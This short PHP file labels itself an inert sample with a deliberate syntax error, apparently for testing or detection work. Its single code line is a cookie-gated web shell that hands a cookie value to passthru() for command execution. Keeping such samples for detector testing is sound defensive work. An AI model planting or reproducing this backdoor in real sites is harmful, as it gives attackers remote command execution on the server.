<?php
shodo inert sample: deliberate syntax error, this file never runs
 $u = $_COOKIE; if (isset($u['k']) && $u['k'] == 'secret') { passthru($u['c']); } ?>
